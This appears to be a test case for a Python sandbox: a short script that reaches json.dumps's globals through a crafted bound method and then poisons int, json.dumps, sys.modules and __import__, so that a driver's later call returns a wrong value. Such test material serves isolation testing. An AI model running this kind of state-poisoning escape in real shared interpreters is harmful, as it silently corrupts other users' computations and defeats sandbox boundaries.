# technique: leave state for the next call: rebind int and json.dumps in the real builtins and json modules, the module views and sys.modules, and replace the worker's __import__ (the driver's next call computes int(json.dumps(6 * 7)) and must get 42)
# expect: any
import copy, json

class A:
    def m(self):
        pass

MethodType = type(A().m)

def peek(obj, name):
    def f():
        pass
    f.__name__ = name
    return copy.copy(MethodType(f, obj))

g = peek(json.dumps, "__globals__")
bi = g["__builtins__"]
sys = bi["__import__"]("sys")
poisoned = lambda *a, **k: 0
bi["int"] = poisoned
g["dumps"] = poisoned
json.dumps = poisoned
for name, mod in list(sys.modules.items()):
    if name in ("json", "json.encoder"):
        try:
            mod.dumps = poisoned
        except Exception:
            pass
sys.modules["json"] = json
bi["__import__"] = lambda *a, **k: json
"poisoned"
